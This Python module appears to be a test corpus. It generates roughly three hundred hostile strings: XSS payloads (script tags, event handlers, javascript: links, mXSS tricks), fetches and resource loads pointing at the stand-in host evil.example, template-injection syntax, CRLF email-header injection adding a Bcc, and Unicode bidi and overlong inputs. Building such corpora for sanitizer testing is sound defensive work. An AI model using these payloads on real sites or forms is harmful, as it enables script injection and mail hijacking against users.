"""Three hundred strings that mean harm: to markup, to headers, to the eye."""

from itertools import product

_SCRIPTS = ("window.__run=1", "alert(1)", "fetch('http://evil.example/')")
_MARKUP = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg/onload={}>",
    '"><script>{}</script>',
    "'><img src=//evil.example/x onerror={}>",
    "</blockquote></td></tr></table><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'>",
    '<a href="javascript:{}">x</a>',
    "<body onload={}>",
    "<style>@import 'http://evil.example/{}';</style>",
    "<link rel=stylesheet href=http://evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/{}'>",
    "<form action=http://evil.example/{}><input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<math><mtext><mglyph><style><img src=x onerror={}>",
    "{{{{ ''.__class__ }}}} {{% for x in y %}} ${{{}}}",
    "<![CDATA[<script>{}</script>]]>",
    "<!--><script>{}</script-->",
    "<video src=http://evil.example/{} autoplay>",
    "<object data=http://evil.example/{}>",
)
_LINE_ENDS = (
    "\r\n",
    "\r",
    "\n",
    "\v",
    "\f",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
    "\0",
    "\r\n\t",
    "\r\n ",
)
_HEADERS = (
    "Bcc: evil@evil.example",
    "Subject: other",
    "Content-Type: text/html",
    "X-Evil: 1",
    "\r\n<script>x</script>",
)
_TURNED = (
    "\u202e",
    "\u2066",
    "\u2069",
    "\ufeff",
    "\ud800",
    "\udfff",
    "\u200d",
    "\u0e49" * 50,
    "\u0301" * 200,
    "\U0010ffff",
)
_ENCODED = ("=?utf-8?q?=0D=0ABcc:evil@evil.example?=", "=?utf-8?b?PHNjcmlwdD4=?=", "%0d%0aBcc:evil@evil.example")
_LONG = ("A" * 5_000, "憤" * 5_000, "ก" * 5_000, "a " * 3_000, "&lt;" * 2_000, "<" * 2_000)

STRINGS: tuple[str, ...] = (
    *(pattern.replace("{}", script) for pattern, script in product(_MARKUP, _SCRIPTS)),
    *(f"x{end}{header}" for end, header in product(_LINE_ENDS, _HEADERS)),
    *(f"{turned}{pattern.replace('{}', _SCRIPTS[0])}" for turned, pattern in product(_TURNED, _MARKUP[:17])),
    *_ENCODED,
    *_LONG,
)
